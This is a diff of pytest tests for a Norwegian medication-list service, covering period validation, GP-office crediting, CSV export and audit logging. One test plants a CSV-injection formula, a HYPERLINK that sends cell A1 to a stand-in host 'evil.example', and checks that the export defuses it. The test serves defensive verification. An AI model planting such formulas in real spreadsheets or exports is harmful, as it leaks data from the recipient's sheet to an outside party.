@@ -23,10 +23,15 @@ Every figure asserted below follows from that story by hand.
 
 from __future__ import annotations
 
+import csv
+import html
+import io
 import os
+import re
 import time
 import uuid
 from collections.abc import Iterator
+from contextlib import contextmanager
 from datetime import UTC, datetime
 from typing import Any
 
@@ -57,7 +62,7 @@ from pll.services.technical_cases import TechnicalCaseService
 from pll.stats import organisations
 from pll.stats.indicators import OSLO
 from pll.store.db import Database
-from pll.store.schema import audit_event
+from pll.store.schema import audit_event, client_week_count
 from tests.conftest import (
     Clock,
     LiveServer,
@@ -415,3 +420,238 @@ def test_the_rollout_pages_refuse_others_and_need_a_login(told: Story) -> None:
         assert "bare innførings- og kompensasjonsteamet" in r.text
         assert "Stavanger legesenter" not in r.text  # no figure of the report
     assert [x.outcome for x in _report_records(told)[before:]] == ["4"]
+
+
+# -- found by the review (issue 19): hostile periods, what the payer is told, the counter --
+
+
+def _team(server: LiveServer) -> httpx.Client:
+    token = issue(server.data_dir, "rollout")
+    return httpx.Client(
+        base_url=server.base, headers={"Authorization": f"Bearer {token}"}, timeout=30
+    )
+
+
+def _doctor(server: LiveServer, token: str, basis: bool = True) -> httpx.Client:
+    headers = {"Authorization": f"Bearer {token}", "Content-Type": "application/fhir+json"}
+    if basis:
+        headers |= BASIS
+    return httpx.Client(base_url=server.base, headers=headers, timeout=30)
+
+
+@pytest.mark.parametrize(
+    ("path", "params", "where"),
+    [
+        ("/stats/first-lists", {"month": "9999-12"}, "month"),
+        ("/stats/vendors", {"week": "9999-W52"}, "week"),
+    ],
+)
+def test_a_period_after_the_year_2999_is_a_400_not_a_500(
+    server: LiveServer, path: str, params: dict[str, str], where: str
+) -> None:
+    """A period's year is 2000–2999: 9999-12 would end in year 10000, 9999-W52 past
+    9999-12-31 — a 400 naming the parameter, never a 500."""
+    with _team(server) as team:
+        r = team.get(path, params=params)
+    assert r.status_code == 400, r.text
+    assert r.json()["issue"][0]["expression"] == [where]
+
+
+@pytest.mark.parametrize(
+    ("path", "params"),
+    [
+        ("/statistikk/utrulling", {"maned": "9999-12"}),
+        ("/statistikk/utrulling/leverandorer", {"uke": "9999-W52"}),
+    ],
+)
+def test_the_rollout_pages_answer_a_period_after_2999_with_a_400_page(
+    server: LiveServer, path: str, params: dict[str, str]
+) -> None:
+    with logged_in(server, "rollout") as team:
+        r = team.get(path, params=params)
+    assert r.status_code == 400, r.text[:300]
+
+
+@pytest.mark.parametrize(
+    ("path", "params", "where"),
+    [
+        ("/stats/first-lists", {"month": "2026-1\x00"}, "month"),
+        ("/stats/vendors", {"week": "2026-W4\x00"}, "week"),
+    ],
+)
+def test_a_nul_in_the_period_is_a_400_before_anything_is_written(
+    server: LiveServer, path: str, params: dict[str, str], where: str
+) -> None:
+    """The period is checked before the read's audit record (resource id
+    ``first-lists/<month>``) is written: a NUL never reaches the database (PostgreSQL refuses
+    it in a text column)."""
+    with _team(server) as team:
+        r = team.get(path, params=params)
+    assert r.status_code == 400, r.text
+    assert r.json()["issue"][0]["expression"] == [where]
+
+
+@pytest.mark.parametrize(
+    ("path", "params", "where"),
+    [
+        ("/stats/first-lists", {"month": "\u0662\u0660\u0662\u0666-\u0661\u0660"}, "month"),
+        ("/stats/vendors", {"week": "\u0662\u0660\u0662\u0666-W\u0664\u0661"}, "week"),
+    ],
+)
+def test_a_period_in_digits_other_than_ascii_is_a_400(
+    server: LiveServer, path: str, params: dict[str, str], where: str
+) -> None:
+    """A period is in ASCII digits: Arabic-Indic "2026-W41" would mix figures of the real
+    week (changes, read by time) with none of the counted ones (looked up by the text)."""
+    with _team(server) as team:
+        r = team.get(path, params=params)
+    assert r.status_code == 400, r.text
+    assert r.json()["issue"][0]["expression"] == [where]
+
+
+OSTMARKA_REGISTER = """orgnr,name,kommunenummer,actor_type,her_id,list_patients
+974600951,Østmarka Legekontor,4601,fastlege,8093556,800
+"""
+OSTMARKA = "974600951"
+
+
+def test_an_sfm_import_is_credited_to_the_registered_office_of_its_her_id(
+    server: LiveServer,
+) -> None:
+    """The reference document's sender (Johan PSA Jensen, Østmarka Legekontor) names his office
+    by name and HER-id 8093556 only. The register knows that HER-id as orgnr 974600951, a GP
+    office: the first list is credited to it (the payer can pay it), and the GP-office report
+    counts the list and its first list for that office."""
+    register = organisations.parse("test", OSTMARKA_REGISTER)
+    Statistics(server.db, server.service.clock).register(register)
+    SfmService(server.service).import_document(reference())
+    with _team(server) as team:
+        report = ok(team.get("/stats/first-lists"))
+        offices = ok(team.get("/stats/gp-offices"))["rows"]
+    johan = next(p for p in report["prescribers"] if p["hpr"] == JOHAN)
+    assert johan["orgnr"] == OSTMARKA
+    office = next(o for o in offices if o["orgnr"] == OSTMARKA)
+    assert (office["patients_with_pll"], office["first_lists_this_month"]) == (1, 1)
+
+
+FORMULA = ("=", "+", "-", "@", "\t", "\r")
+
+
+def test_no_csv_cell_starts_a_formula(server: LiveServer) -> None:
+    """The CSV is for the payer's spreadsheet. Its ``name`` and ``organisation`` cells come from
+    tokens (and SFM documents): a cell beginning with ``=``, ``+``, ``-``, ``@``, a tab or CR
+    is written with a leading ``'`` (CSV injection, OWASP)."""
+    evil = '=HYPERLINK("https://evil.example/?"&A1,"Se detaljer")'
+    token = doctor_token(server.data_dir, evil, "9144889", "974600951", "@SUM(1+1)", "journal-a")
+    with _doctor(server, token) as gp:
+        pid = ok(gp.post("/fhir/Patient", json=patient()), 201)["id"]
+        new_list(gp, pid)
+    with _team(server) as team:
+        r = team.get("/stats/first-lists", params={"format": "csv"})
+    assert r.status_code == 200, r.text
+    cells = [cell for row in csv.reader(io.StringIO(r.text)) for cell in row]
+    assert any(c.lstrip("'") == evil for c in cells)  # the story happened
+    assert [c for c in cells if c.startswith(FORMULA)] == []
+
+
+def test_the_pages_csv_link_downloads_the_csv_with_the_session(server: LiveServer) -> None:
+    """The first-list page's "Last ned CSV" works with the browser's session (a browser sends
+    no bearer token): the page's own CSV route, audited as the API's read is."""
+    with server.client("gp") as gp:
+        new_list(gp, ok(gp.post("/fhir/Patient", json=patient()), 201)["id"])
+    with logged_in(server, "rollout") as team:
+        page = team.get("/statistikk/utrulling")
+        assert page.status_code == 200, page.text[:300]
+        found = re.search(r'href="([^"]*)">Last ned CSV<', page.text)
+        assert found, "no CSV link on the page"
+        before = len(_report_reads(server.db))
+        r = team.get(html.unescape(found.group(1)))
+    assert r.status_code == 200, r.text[:300]
+    assert r.headers["content-type"].startswith("text/csv")
+    header, first = list(csv.reader(io.StringIO(r.text)))
+    assert header == ["month", "hpr", "name", "orgnr", "organisation", "patients", "dates"]
+    assert first[5] == "1"
+    assert len(_report_reads(server.db)) == before + 1
+
+
+def _report_reads(db: Database) -> list[Any]:
+    with db.read() as conn:
+        return list(
+            conn.execute(
+                sa.select(audit_event.c.resource_id).where(
+                    audit_event.c.resource_type == "RolloutReport", audit_event.c.outcome == "0"
+                )
+            )
+        )
+
+
+@contextmanager
+def counter_fails(db: Database) -> Iterator[None]:
+    """Make every write of ``client_week_count`` fail, as a full disk, a lock timeout or a
+    read-only replica would."""
+    with db.write() as conn:
+        if db.is_sqlite:
+            conn.execute(
+                sa.text(
+                    "CREATE TRIGGER count_fails BEFORE INSERT ON client_week_count "
+                    "BEGIN SELECT RAISE(ABORT, 'no space'); END"
+                )
+            )
+        else:
+            conn.execute(
+                sa.text(
+                    "CREATE OR REPLACE FUNCTION count_fails() RETURNS trigger AS $$ "
+                    "BEGIN RAISE EXCEPTION 'no space'; END $$ LANGUAGE plpgsql"
+                )
+            )
+            conn.execute(
+                sa.text(
+                    "CREATE TRIGGER count_fails BEFORE INSERT ON client_week_count "
+                    "FOR EACH ROW EXECUTE FUNCTION count_fails()"
+                )
+            )
+    try:
+        yield
+    finally:
+        with db.write() as conn:
+            if db.is_sqlite:
+                conn.execute(sa.text("DROP TRIGGER count_fails"))
+            else:
+                conn.execute(sa.text("DROP TRIGGER count_fails ON client_week_count"))
+                conn.execute(sa.text("DROP FUNCTION count_fails()"))
+
+
+def _refused_records(db: Database) -> int:
+    with db.read() as conn:
+        return int(
+            conn.execute(
+                sa.select(sa.func.count()).where(audit_event.c.outcome != "0")
+            ).scalar_one()
+        )
+
+
+def test_a_refusal_is_logged_before_it_is_counted_and_a_failing_count_never_replaces_it(
+    server: LiveServer,
+) -> None:
+    """Rule 5: a refused access is logged. Its count for the client system comes after the
+    audit record and is best effort: when that statistics write fails, the caller still
+    gets the 403 and the refused access is in the log."""
+    with server.client("gp") as gp:
+        pid = ok(gp.post("/fhir/Patient", json=patient()), 201)["id"]
+        list_id = new_list(gp, pid)["id"]
+    before = _refused_records(server.db)
+    with server.client("gp", basis=None) as no_basis, counter_fails(server.db):
+        r = no_basis.post(f"/fhir/List/{list_id}/$confirm", headers={"If-Match": 'W/"1"'})
+    assert r.status_code == 403, r.text
+    assert _refused_records(server.db) == before + 1
+
+
+def test_a_refused_read_is_not_counted_for_its_client(server: LiveServer) -> None:
+    """DESIGN: a refused request changes nothing. A read the API refuses (a report with a
+    parameter it does not take: 400) sent nothing, and writes no ``client_week_count`` row —
+    the per-client figures count refused changes (as the hot reads, which count none)."""
+    with _team(server) as team:
+        r = team.get("/stats/gp-offices", params={"by": "region"})
+    assert r.status_code == 400, r.text
+    with server.db.read() as conn:
+        assert conn.execute(sa.select(client_week_count)).all() == []
